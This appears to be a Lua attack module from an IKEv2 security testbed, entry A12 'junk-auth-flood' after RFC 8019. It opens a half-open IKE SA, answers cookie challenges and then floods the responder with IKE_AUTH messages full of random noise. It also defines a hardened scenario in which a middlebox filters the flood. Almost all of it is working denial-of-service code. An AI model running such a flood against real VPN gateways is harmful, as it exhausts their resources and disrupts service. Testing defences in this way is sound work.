-- IKE_SA_INIT under one's own address, as anybody may (a cookie is answered, too), and then IKE_AUTH requests full of noise. The responder has
-- to compute a key exchange and to check an ICV for each of them; the sender computes nothing.
attack = {
  id = "A12", name = "junk-auth-flood",
  about = "Begins IKE SAs under its own address, then sends IKE_AUTH requests that are nothing but noise",
  position = "off-path",
  needs = "an address of its own",
  source = "RFC 8019, 3 (the second kind of attack); catalogue A12",
  shows = {
    vulnerable = "each noise costs the responder a decryption attempt, as many as the sender likes",
    hardened = "somebody on the way counts different requests under one Message ID, and lets no more through",
  },
  scenarios = { vulnerable = "junk-auth-flood", hardened = "junk-auth-flood-filtered" },
}

-- Parameters: target, own = "203.0.113.66", count = 100 (noise a second), for 3 s
local target, own, count, pair, spi_i, spi_r, sent = nil, nil, nil, nil, nil, nil, 0
local proposal = { number = 1, protocol = 1, spi = "", transforms = {
  { type = 1, id = 20, key_bits = 256 }, { type = 2, id = 5 }, { type = 4, id = 31 } } }
local nonce

function on_start(params)
  target, own, count = assert(params.target, "parameter target: the responder's address"), params.own or "203.0.113.66", tonumber(params.count or "300")
  pair, nonce, spi_i = crypto.key_pair("x25519"), crypto.random(32), bytes.hex(crypto.random(8))
  timer.after("1s", "begin")
end

local function send(note, payload)
  inject{ src = own, src_port = 500, dst = target, dst_port = 500, protocol = "IKE", note = note, payload = payload }
end
local function begin(cookie)
  local payloads = { ike.sa(proposal), ike.ke(pair), ike.nonce(nonce) }
  if cookie then table.insert(payloads, 1, ike.notify(16390, cookie)) end
  send(cookie and "IKE_SA_INIT again, with the cookie" or "IKE_SA_INIT, under its own address",
    ike.encode{ spi_i = spi_i, spi_r = "0000000000000000", exchange = 34, initiator = true, message_id = 0, payloads = payloads })
end

local function noise()
  sent = sent + 1
  send("IKE_AUTH with 200 octets of noise", ike.encode{ spi_i = spi_i, spi_r = spi_r, exchange = 35, initiator = true, message_id = 1,
    payloads = { { number = 46, body = crypto.random(200) } } })
  if sent < count then timer.after("10ms", "noise") end
end

function on_timer(label)
  if label == "begin" then begin() else noise() end
end

on({ exchange = "IKE_SA_INIT", response = true, repeated = false }, function(_, message)
  local cookie = notify_of(message, "COOKIE")
  if cookie then return begin(cookie.data) end
  if spi_r or not find(message, "KE") then return end
  spi_r = message.spi_r
  learn("IKE SA " .. spi_r, "a half-open IKE SA at " .. target, "the responder answered in full")
  mark("mallory has a half-open IKE SA, and fills it with noise.")
  timer.after("10ms", "noise")
end)

function on_finish()
  learn("the flood", sent .. " IKE_AUTH requests of noise sent; what each cost, only the responder knows", "counted")
end
